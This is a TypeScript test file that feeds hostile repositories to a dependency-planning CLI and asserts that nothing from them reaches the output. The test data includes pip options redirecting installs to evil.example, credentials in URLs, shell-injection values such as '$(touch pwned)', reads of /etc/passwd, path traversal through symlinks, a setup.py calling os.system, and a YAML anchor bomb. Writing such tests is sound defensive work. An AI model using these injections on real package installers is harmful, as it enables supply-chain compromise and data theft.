/** `reprobot deps` on repositories that want to reach a shell, an index of their own, or a file outside. */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import deps from '../../src/cli/deps.ts';

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'hostile-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

function write(files: Readonly<Record<string, string>>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
}

/** What is printed, and every file that is written. */
async function plan(): Promise<{ code: number; said: string; files: ReadonlyMap<string, string>; all: string }> {
  const [stdin, stdout, stderr] = [new PassThrough(), new PassThrough(), new PassThrough()];
  const code = await deps.run(['repo', '--site', 'berzelius', '--all', '--out', 'out'], { stdin, stdout, stderr, cwd: folder });
  const said = `${String(stdout.read() ?? '')}${String(stderr.read() ?? '')}`;
  const paths = existsSync(join(folder, 'out')) ? readdirSync(join(folder, 'out'), { recursive: true, withFileTypes: true }) : [];
  const files = new Map(
    paths.filter((item) => item.isFile()).map((item) => [item.name, readFileSync(join(item.parentPath, item.name), 'utf8')] as const),
  );
  return { code, said, files, all: [said, ...files.values()].join('\n') };
}

const TRAIN = 'import einops, tqdm\ndef train(loss):\n    loss.backward()\nif __name__ == "__main__":\n    train(0)\n';

describe('a hostile repository', () => {
  it('brings no option, no address of its own and no shell into what pip reads', async () => {
    write({
      'repo/train.py': TRAIN,
      'repo/requirements.txt': [
        '--index-url https://ana:hunter2@evil.example/simple',
        '--extra-index-url=https://evil.example/simple',
        '-f https://evil.example/wheels',
        '--trusted-host evil.example',
        '-e ../..',
        '-e .',
        '--pre',
        '-tqdm',
        '$(touch pwned)',
        '`touch pwned`',
        'einops --global-option="--evil"',
        'tqdm[--evil,$(id)]>=4 ; python_version >= "3" and __import__("os")',
        'file:///etc/passwd',
        './../../x.whl',
        'six==1.0\\\n--index-url https://evil.example',
        '',
      ].join('\n'),
      'repo/Pipfile.lock': JSON.stringify({
        default: { 'six\n--index-url https://evil.example': { version: '==1' }, tqdm: { version: '==1\n--pre' } },
      }),
    });
    const { files, said } = await plan();
    expect(files.get('requirements.txt')?.trim().split('\n').sort()).toEqual(['einops', 'six==1.0', 'tqdm>=4']);
    const scripts = [...files].filter(([name]) => /\.(?:sh|txt|py)$/.test(name)).map(([, text]) => text);
    expect(scripts.join('\n')).not.toMatch(/evil|--pre\b|pwned|passwd/);
    expect(said).toContain('packages from evil.example (requirements.txt:1) are not taken');
    expect(spawnSync('sh', ['-n', join(folder, 'out/build.sh')]).status).toBe(0);
  });

  it('looks up by name nothing that it installs from an address with a password', async () => {
    write({
      'repo/train.py': `import secret_tool, open_tool\n${TRAIN}`,
      'repo/requirements.txt':
        'secret_tool @ git+https://bob:hunter2@github.com/lab/secret_tool.git\ngit+https://${TOKEN}@github.com/lab/open_tool.git#egg=open_tool\ntqdm @ file:///croot/tqdm/work\n',
    });
    const { code, all, files } = await plan();
    expect(code).toBe(1);
    expect(all).toContain('**Blocked: secret-tool, open-tool cannot be had on berzelius.**');
    expect(all).not.toMatch(/hunter2|TOKEN/);
    expect(files.get('requirements.txt')).toBe('tqdm\neinops\n');
  });

  it('has nothing read from outside of it, and nothing run', async () => {
    write({
      'outside.txt': 'outside-package==1\n',
      'repo/train.py': TRAIN,
      'repo/requirements.txt': '-r /etc/passwd\n-r ../outside.txt\n-r ..\\outside.txt\n-c ../outside.txt\n-r linked.txt\ntqdm\n',
      'repo/setup.py': `import os\nfrom setuptools import setup\nos.system("touch ${folder}/pwned")\nsetup(name="x", install_requires=open("../outside.txt").read().split() + ["six\\n--index-url https://evil.example"])\n`,
    });
    symlinkSync('../outside.txt', join(folder, 'repo/linked.txt'));
    symlinkSync('../outside.txt', join(folder, 'repo/requirements-more.txt'));
    symlinkSync('/etc', join(folder, 'repo/requirements'));
    const { all, said } = await plan();
    expect(all).not.toMatch(/outside-package|root:x:|evil/);
    expect(existsSync(join(folder, 'pwned'))).toBe(false);
    expect(said).toContain('- requirements-more.txt: a symbolic link, which is not followed; what it asks for may be missing here.');
  });

  it('wears nobody out: anchors upon anchors, a list of 50 MB, a name for a name', async () => {
    const letters = 'abcdefghij'.split('');
    const lines = letters.map(
      (letter, index) =>
        `  - &${letter} [${Array.from({ length: 9 }, () => (index === 0 ? 'x' : `*${letters[index - 1] ?? ''}`)).join(',')}]`,
    );
    write({
      'repo/train.py': TRAIN,
      'repo/environment.yml': `name: x\ndependencies:\n${lines.join('\n')}\n  - tqdm\n  - pip:\n    - six\n`,
      'repo/requirements.txt': 'package-with-a-long-name==1.0\n'.repeat(1_750_000),
    });
    const { said, files } = await plan();
    expect(said).toContain('requirements.txt: 52.5 MB, too large to be read; what it asks for may be missing here.');
    expect(files.get('requirements.txt')).toContain('tqdm\n');
  });
});
